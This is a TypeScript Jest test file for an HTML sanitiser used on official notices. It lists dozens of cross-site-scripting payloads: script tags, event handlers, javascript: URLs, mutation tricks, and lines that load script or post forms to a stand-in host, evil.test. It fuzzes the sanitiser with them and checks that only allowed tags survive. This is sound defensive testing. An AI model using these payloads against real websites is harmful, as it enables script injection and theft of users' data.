import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { sanitise } from '#functions/notice/sanitise';
import { runs } from '#test/runs';

/** What was tried against sanitisers before: each line would run, load or restyle something. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" &#1; javascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.test/">a</a>',
  '<a href="http://evil.test/">a</a>',
  '<a href="https://a.test" onclick="alert(1)" style="position:fixed" target="_blank">a</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1) class=x id=y>a</p>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>a</td></tr></table>',
  '<style>@import "//evil.test/x.css";</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<form action=//evil.test><input name=id autofocus onfocus=alert(1)><button>a</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<p/onclick=alert(1)//<b>a',
  '<a href="https://a.test/&quot; onclick=&quot;alert(1)">a</a>',
  '<a href=<script>',
  '<a href="/beside">a</a>',
  '"><img src=x onerror=alert(1)>',
  '<p\u0000 onclick=alert(1)>a</p>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
];

const TAG =
  /^<(?:\/?(?:h3|p|strong|em|u|ol|ul|li|table|thead|tbody|tr|th|td|a)|br \/|a href="(?:https:|tel:)[^"<>]*")>$/;

/** Every `<` of what was let through begins one of the tags of the house, spelt in the one way. */
function expectClean(html: string): void {
  const rest = html.replace(/<[^<>]*>/g, (tag) => (TAG.test(tag) ? '' : tag));
  expect(rest).not.toMatch(/[<>]/);
}

describe('sanitising', () => {
  it.each(ATTACKS)('lets nothing of %s through that acts', (attack) => {
    expectClean(sanitise(attack));
    expectClean(sanitise(`<p>${attack}</p>`));
    expect(sanitise(attack)).not.toMatch(/evil\.test|javascript:|srcdoc/i);
  });

  it('lets nothing through however attacks are cut and joined', () => {
    const parts = fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 12 }));
    const cut = fc.tuple(parts, fc.nat(40), fc.nat(80)).map(([text, from, to]) => text.slice(from, to));
    fc.assert(
      fc.property(fc.array(fc.oneof(parts, cut), { maxLength: 6 }), (joined) => {
        const once = sanitise(joined.join(''));
        expectClean(once);
        expectClean(sanitise(once));
      }),
      { numRuns: runs(300) },
    );
  });

  it('keeps what an office writes', () => {
    const html =
      '<h3>一、时间</h3><p>请<strong>12月1日</strong>前到<a href="tel:0000-1234567">村委会</a>，见<a href="https://a.test/x?a=1&amp;b=2">说明</a>。<br /></p>' +
      '<ol><li>一组</li></ol><ul><li><em>二组</em> <u>三组</u></li></ul>' +
      '<table><thead><tr><th>组</th></tr></thead><tbody><tr><td>一组</td></tr></tbody></table>';
    expect(sanitise(html)).toBe(html);
    expect(sanitise('<h1>一</h1><b>二</b><i>三</i><a>四</a>')).toBe(
      '<h3>一</h3><strong>二</strong><em>三</em>四',
    );
  });
});
